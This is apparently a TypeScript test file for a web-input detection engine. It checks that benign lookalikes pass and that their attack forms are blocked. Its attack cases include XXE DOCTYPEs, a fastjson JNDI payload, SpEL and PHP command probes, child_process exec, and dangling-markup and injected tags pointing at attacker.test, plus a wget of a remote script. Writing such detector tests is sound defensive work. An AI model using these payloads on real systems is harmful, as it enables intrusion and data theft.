// Constructs that are attacks only in one of their forms (scripts/probe-docs.ts found the benign ones in
// glibc locale sources, fontconfig and D-Bus files, JDK properties files, HTML pages, C and Rust documentation,
// AppArmor profiles). Each benign case passes in every carrier; beside it, the attack form of the same
// construct, which the same carrier must still block.
import { beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { loadHarness, type Harness } from "../support/harness.js";
import { json, TEXT_CARRIERS, blockedBy } from "../support/text-carriers.js";
import { inspect } from "../support/engine.js";
import { javaAttack } from "../support/variants/java.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});


const ids = (text: string) => inspect(h, json(text)).matches.map((m) => m.id);

const CASES: { name: string; benign: string[]; attacks: [string, number][] }[] = [
  {
    // 3001: base, meta, link, object, embed and frame act only through attributes (object also through <param>)
    name: "an element closed with no attribute",
    benign: [
      'ö <o-diaeresis>;"<BASE><DIAER>";"<MIN><MIN>";IGNORE % ö',
      "<LINK> and <META> are head elements: see the chapter on metadata",
      "Ž <z-caron>;<BASE>;<CAP>;IGNORE",
      "an empty <embed/> or <frame /> renders nothing",
      "options <Object> (optional). Returns: <Promise>",
    ],
    attacks: [
      ["<base href=//attacker.test/>", 3001],
      ["<base/href=//attacker.test/>", 3001],
      ['<BASE target="_blank">', 3001],
      ["x <base", 3001], // left open: the page's markup after the value adds attributes
      ['<meta http-equiv="refresh" content="0;url=//attacker.test">', 3001],
      ["<link rel=stylesheet href=//attacker.test/x.css>", 3001],
      ["<embed src=//attacker.test/x.swf>", 3001],
      ["<object><param name=url value=//attacker.test/page.html>", 3001], // <param> children name the resource
      ["<object data=//attacker.test/x.svg>", 3001],
      ["<script>", 3001],
      ["<style>", 3001],
    ],
  },
  {
    // 14002: a DOCTYPE whose system id is a catalog name or a DTD beside the document
    name: "a DOCTYPE that loads nothing an attacker picks",
    benign: [
      '<?xml version="1.0"?>\n<!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd">\n<fontconfig>\n  <dir>~/.fonts</dir>\n</fontconfig>',
      '<!DOCTYPE fontconfig SYSTEM "../fonts.dtd">',
      "<!DOCTYPE book SYSTEM 'docbook/book.dtd'>",
      '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">',
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    ],
    attacks: [
      ['<!DOCTYPE r SYSTEM "http://attacker.test/x.dtd"><r/>', 14002],
      ['<!DOCTYPE r SYSTEM "//attacker.test/x.dtd">', 14002],
      ['<!DOCTYPE r SYSTEM "file:///etc/passwd">', 14002],
      ['<!DOCTYPE r SYSTEM "/usr/share/xml/x.dtd">', 14002],
      ['<!DOCTYPE r SYSTEM "../../../../etc/passwd">', 14002],
      ['<!DOCTYPE r SYSTEM "\\\\attacker.test\\share\\x.dtd">', 14002],
      ['<!DOCTYPE r SYSTEM "urn:x:http://attacker.test/x.dtd">', 14002],
      ['<!DOCTYPE r SYSTEM "..%2f..%2fetc%2fpasswd">', 14002],
      ['<!DOCTYPE r SYSTEM "jar:http://attacker.test/a.jar!/x.dtd">', 14002],
      ['<!DOCTYPE r SYSTEM "local.dtd" [<!ELEMENT r ANY>]>', 14002], // an internal subset redefines what the DTD declares
      ['<!DOCTYPE r PUBLIC "-//A//DTD X//EN" "http://attacker.test/www.w3.org/x.dtd">', 14002],
      ['<!DOCTYPE r SYSTEM "http://attacker.test/x.dtd?www.w3.org/">', 14002],
      ['<!DOCTYPE r PUBLIC "-//A//DTD X//EN" "http://attacker.test/x.dtd">', 14002],
      ["<!DOCTYPE r SYSTEM http://attacker.test/x.dtd>", 14002],
    ],
  },
  {
    // 8120/8121: a camelCase word after lower-case segments is a property or member, never a class
    name: "a Java property key",
    benign: [
      "#sun.rmi.transport.tcp.responseTimeout=\\",
      "#   javax.net.ssl.trustStorePassword=<truststore-password>",
      "set com.sun.jndi.ldap.connect.pool.maxSize in the JVM options",
    ],
    attacks: [
      ['{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.test/x"}', 8121],
      ["T(java.lang.Runtime).getRuntime().exec('id')", 8120],
      ["java.lang.reflect", 8120], // a package on its own: probes name them so
      ["com.sun.org.apache", 8121],
      ["java.lang.runtime.getRuntime", 8120], // an exec class, whatever its case
    ],
  },
  {
    // 8120/8121: a chain all in lower case names a package or a property key, which no class loader loads (Java's
    // names are case-sensitive). It counts as a whole value or the value after `=` (what a class-name parameter
    // takes, what probes send), not among other words; a capitalised class counts wherever it stands.
    name: "a Java package or property named among other words",
    benign: [
      "# com.sun.management.jmxremote.ssl=false",
      '# com.sun.management.jmxremote.ssl.need.client.auth=true|false\n#      If this property is specified as true in conjunction with the previous\n#      property "com.sun.management.jmxremote.ssl" then',
      'grant codeBase "jrt:/jdk.security.jgss" {',
      "jdk.security.krb5.default.initiate.credential=always-impersonate",
      "com.vaadin:vaadin-core\t24.9.14\t25.0.7",
      "#          com.sun.management.jmxremote.registry.ssl=true",
    ],
    attacks: [
      ["org.apache.commons", 8121],
      ['"com.opensymphony.xwork2"', 8121],
      ["test=java.lang.reflect", 8120],
      ["x=1&cls=com.sun.org.apache", 8121],
      ["sun.reflect.", 8120],
      ["java.evil.runtime", 8120],
      ['grant codeBase "jrt:/jdk.security.auth" {\n    permission java.security.AllPermission;\n};', 8120], // a class after a package
      ["com.sun.management.jmxremote.ssl x com.sun.rowset.JdbcRowSetImpl", 8121],
      ["see org.apache.commons.collections.functors.InvokerTransformer", 8122],
    ],
  },
  {
    // 9120/9121: a name, a blank, then two bare words side by side: prose or a C prototype, never PHP
    name: "an argument list that opens with two bare words",
    benign: [
      "Keep the settings in a local file (for example, ~/.config/app.ini) and restart.",
      "void png_set_tRNS (png_structp png_ptr, png_infop info_ptr, png_bytep trans);",
      "Any ordering inside the project file (see the next section) is kept.",
    ],
    attacks: [
      ["passthru(cat flag.txt)", 9120], // without the blank it is a payload's shape
      ["system (new ArrayObject)", 9120], // `new X` is an expression
      ["file (FILE_NAME . x)", 9120],
      ["system ($cmd)", 9120],
      ["<?php file_get_contents (php://input); ?>", 9120],
    ],
  },
  {
    // 3021: a value cut short inside a quoted attribute value (a line of markup, a subject made of its first
    // words) takes the page's markup as that value and gains no attribute; a URL to elsewhere carries the page away
    name: "a tag left open inside a quoted value",
    benign: [
      '<span class="icon"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 448',
      'const total = <span class="hljs-title',
      'the interpreter <code class="file docutils',
    ],
    attacks: [
      ["<img src='//attacker.test/?", 3021], // dangling markup: the page up to its next quote goes to the attacker
      ['<img src="https://attacker.test/log?c=', 3021],
      ['<a class="x" href="\\attacker.test\\', 3021],
      ['<div class="note" style="background:url(//attacker.test/?', 3021], // a `name:` may open a URL
      ['<a href="test"', 3021], // closed values, the tag left open: the page's markup may add attributes
      ['<img src="x" class="y"', 3021],
    ],
  },
  {
    // 3021: a tag left open after closed values takes the page's next attributes only to add them to what it already
    // is: a link, an image, a styled box (`href`, `src`, `style`: CRS 941150's) or an element that only labels
    // (`class`, `title`, `aria-hidden`: the first words of a line of markup in a subject field), which gains nothing
    name: "a tag left open whose attributes only label",
    benign: [
      '<h4><code>rl.pause()</code><span><a class="mark" href="#rlpause" id="rlpause">#</a></span><a aria-hidden="true"',
      '<a aria-hidden="true" class="legacy"',
      '# ajv <img align="right" alt="Ajv logo"',
      '<option label="Off" name="off"',
      '<br><table class="nav" width="100%" cellspacing="3"',
      '<div class="note" title="x" hidden',
    ],
    attacks: [
      ['<a href="test"', 3021],
      ['<a class="x" title="y" href="z"', 3021],
      ['<a aria-hidden="true" href="#top"', 3021],
      ['<img src="x" class="y"', 3021],
      ['<img alt="logo" srcset="x.png 2x"', 3021],
      ['<video class="v" poster="x.jpg"', 3021],
      ['<div style="color:red" class="y"', 3021],
      ['<td background="x.gif" class="y"', 3021],
      ['<a ping="//attacker.test/p" class="x"', 3021],
      ['<span class="x" title="//attacker.test/?', 3021], // a quote left open on a URL to elsewhere, whatever the attribute
    ],
  },
  {
    // 9121: a library-looking name in another language: a C prototype (two bare words side by side open the
    // arguments, right after the name too), a method called on a call's result (PHP calls methods with `->`)
    name: "a library-looking call that is another language's",
    benign: [
      "XML_SetCommentHandler(XML_Parser p,",
      "let verbose = env::var(\"VERBOSE\").is_ok();",
      "if path.exists() && fs::metadata(&path).is_file() {",
    ],
    attacks: [
      ["is_FILE(chr(47).chr(101))", 9121], // PHP reads names in any case
      ["Xml_Parse_Into_Struct($p, $d, $v)", 9121],
      ["getcwd().system('id')", 9120], // `).` concatenates in PHP: a dangerous call after it still counts
      ["var_dump(getcwd()), x", 9121],
      ["print_r(new ArrayObject)", 9121], // `new X` is an expression
      ["print_r(scandir('.'))", 9120],
    ],
  },
  {
    // 10130: a statement that binds a module to a name, spaced as a page's text spaces tokens, or after the ```js of a
    // code block flattened to one line; a module used in the same statement, or child_process, still scores
    name: "a module bound to a name",
    benign: [
      "const vm = require ( 'node:vm' );",
      "```js const fs = require('node:fs'); const text = fs.readFileSync(file, 'utf8');",
    ],
    attacks: [
      ["require ( 'child_process' ).exec('id')", 10130],
      ["```js require('fs').readFileSync('/etc/passwd')", 10130],
      ["```js const cp = require('child_process');", 10130],
      ["x = require ( 'fs' ) .readFileSync('/etc/shadow')", 10130],
    ],
  },
  {
    // 10150: a condition that is a false literal closed by the loop's own `)`: the body after it never runs, whatever
    // follows (C's `do { ... } while (0)` idiom named in prose); a truthy one, or one inside more condition, still scores
    name: "a loop whose condition is a false literal",
    benign: [
      "Wrap the macro body in do { ... } while (0) so it acts as one statement.",
      "do { x(); } while (0) /* one statement */",
    ],
    attacks: [
      ["while (!false) count++", 10150],
      ["while ((true)) x++", 10150],
      ["while(!0){}", 10150],
      ["while((0)+1){}", 10150],
    ],
  },
  {
    // 4103: a program path, one token of access modes and `,`: a rule of an AppArmor profile (/etc/apparmor.d)
    name: "an AppArmor rule naming a program",
    benign: [
      "/usr/bin/nroff rm,",
      "/usr/bin/groff rmCx -> &groff_child,",
      "/bin/dash ix,",
    ],
    attacks: [
      ["/usr/bin/id", 4103],
      ["/usr/bin/id,", 4103],
      ["/bin/sh -c id,", 4103],
      ["/bin/sh rx, ;id", 4103],
      ["/usr/bin/wget http://attacker.test/x.sh,", 4103],
      [";/usr/bin/id r,", 4103],
    ],
  },
];

describe.each(CASES)("$name", ({ benign, attacks }) => {
  it.each(benign)("passes: %s", (text) => {
    for (const carrier of TEXT_CARRIERS) expect(blockedBy(h, carrier(text))).toBe("");
  });
  it.each(attacks)("blocks: %s", (text, id) => {
    expect(ids(text)).toContain(id);
    for (const carrier of TEXT_CARRIERS) expect(blockedBy(h, carrier(text))).not.toBe("");
  });
});

describe("what the exemptions leave open", () => {
  it("a DTD named by a URL, a scheme or an absolute path still scores, whatever its path", () => {
    const prefix = fc.constantFrom("http://", "HTTPS://", "ftp://", "file:///", "//", "/", "\\\\", "jar:", "php://", "netdoc:", "urn:x:http://");
    fc.assert(fc.property(prefix, fc.stringMatching(/^[a-z0-9._\/-]{0,30}$/), (pre, tail) => {
      fc.pre(!tail.startsWith("www.w3.org/"));
      expect(ids(`<!DOCTYPE r SYSTEM "${pre}${tail}.dtd">`)).toContain(14002);
    }), { numRuns: 200 });
  });

  it("a tag left open in a quoted URL that may leave the page's origin still scores, whatever the attribute", () => {
    const tag = fc.constantFrom("img", "a", "video", "input", "div", "table");
    const scheme = fc.constantFrom("//", "https://", "HTTP:", "ftp:", "\\\\", " //");
    fc.assert(fc.property(tag, fc.stringMatching(/^[a-z][a-z-]{0,10}$/), scheme, fc.stringMatching(/^[a-z0-9.\/?=&-]{0,20}$/), fc.constantFrom('"', "'"), (name, attr, pre, tail, q) => {
      fc.pre(!attr.startsWith("on"));
      expect(ids(`<${name} ${attr}=${q}${pre}${tail}`)).toContain(3021);
    }), { numRuns: 200 });
  });

  it("a tag left open after closed values scores exactly when one of its attributes links, loads or styles", () => {
    const tag = fc.constantFrom("a", "img", "div", "span", "video", "td", "table", "p", "option", "h2");
    const label = fc.constantFrom("class", "id", "title", "alt", "lang", "dir", "rel", "role", "width", "name", "aria-label", "aria-hidden", "data-id", "tabindex");
    const loads = fc.constantFrom("href", "src", "srcset", "style", "background", "poster", "ping", "HREF", "Src");
    const value = fc.stringMatching(/^[a-z0-9 #._-]{0,12}$/);
    const attr = (name: string, v: string, q: string) => ` ${name}=${q}${v}${q}`;
    const q = fc.constantFrom('"', "'");
    fc.assert(fc.property(tag, fc.array(fc.tuple(label, value, q), { minLength: 1, maxLength: 4 }), fc.option(fc.tuple(loads, value, q, fc.nat())), (name, labels, load) => {
      const attrs = labels.map(([n, v, qq]) => attr(n, v, qq));
      if (load) attrs.splice(load[3] % (attrs.length + 1), 0, attr(load[0], load[1], load[2]));
      const got = ids(`<${name}${attrs.join("")}`);
      if (load) expect(got).toContain(3021);
      else expect(got).not.toContain(3021);
    }), { numRuns: 300 });
  });

  it("a Java package in lower case scores alone or after `=`, not among other words; a class scores among them", () => {
    const pkg = fc.constantFrom("org.apache.commons", "com.sun.org.apache", "java.lang.reflect", "com.opensymphony.xwork2", "jdk.security.auth", "sun.misc", "com.sun.management.jmxremote.ssl", "javax.script");
    const words = fc.stringMatching(/^[a-z]{1,8}( [a-z]{1,8}){0,3}$/);
    const java = (got: number[]) => got.filter((id) => id === 8120 || id === 8121);
    fc.assert(fc.property(pkg, words, fc.constantFrom("", '"', "'"), (p, w, q) => {
      expect(java(ids(`${q}${p}${q}`))).not.toEqual([]);
      expect(java(ids(`${w.replace(/ /g, "_")}=${p}`))).not.toEqual([]);
      expect(java(ids(`# ${p}=${w}`))).toEqual([]);
      expect(java(ids(`${w} ${q}${p}${q} ${w}`))).toEqual([]);
      expect(java(ids(`${w}: ${p}.Loader.define(x); ${w}`))).not.toEqual([]);
    }), { numRuns: 300 });
  });

  it("a comment naming a Java package hides none of the generated Java attacks beside it", () => {
    fc.assert(fc.property(javaAttack, fc.constantFrom("# com.sun.management.jmxremote.ssl=false\n", 'grant codeBase "jrt:/jdk.security.jgss" {\n', ""), (attack, before) => {
      expect(blockedBy(h, json(before + attack))).not.toBe("");
    }), { numRuns: 200 });
  });

  it("an attribute-only element with any attribute still scores", () => {
    const tag = fc.constantFrom("base", "OBJECT", "object", "embed", "frame");
    const sep = fc.constantFrom(" ", "/", "\n", "  /");
    fc.assert(fc.property(tag, sep, fc.stringMatching(/^[a-z][a-z-]{0,12}$/), (name, s, attr) => {
      expect(ids(`<${name}${s}${attr}=x>`)).toContain(3001);
    }), { numRuns: 200 });
  });

  // <meta> and <link> pass only when none of their attributes acts (benign-lookalikes.test.ts): one that does
  // scores wherever it stands among others, and so does the tag left open (`name=referrer` is DOM clobbering, 3023).
  it("a <meta> or <link> with an attribute that acts still scores, among any others", () => {
    const acting = fc.constantFrom(
      ["META", 'http-equiv="refresh"'], ["meta", "charset=utf-8"], ["LINK", "rel=import"],
      ["link", 'type="text/javascript"'], ["link", "href=//evil.example/x.css"], ["link", "href=https:x.css"], ["link", "href=data:,x"],
      ["link", "href=\\evil.example\\x"]);
    const other = fc.array(fc.tuple(fc.stringMatching(/^[a-z][a-z-]{0,10}$/), fc.stringMatching(/^[a-z0-9./-]{0,12}$/)), { maxLength: 3 });
    fc.assert(fc.property(acting, other, fc.boolean(), ([tag, attr], rest, closed) => {
      fc.pre(!rest.some(([n]) => /^(on|rel$|type$|href$|name$|charset$|http-equiv$)/.test(n)));
      const attrs = rest.map(([n, v]) => `${n}="${v}"`);
      attrs.splice(rest.length ? 1 : 0, 0, attr);
      expect(ids(`<${tag} ${attrs.join(" ")}${closed ? ">" : ""}`)).toContain(3001);
    }), { numRuns: 300 });
  });
});
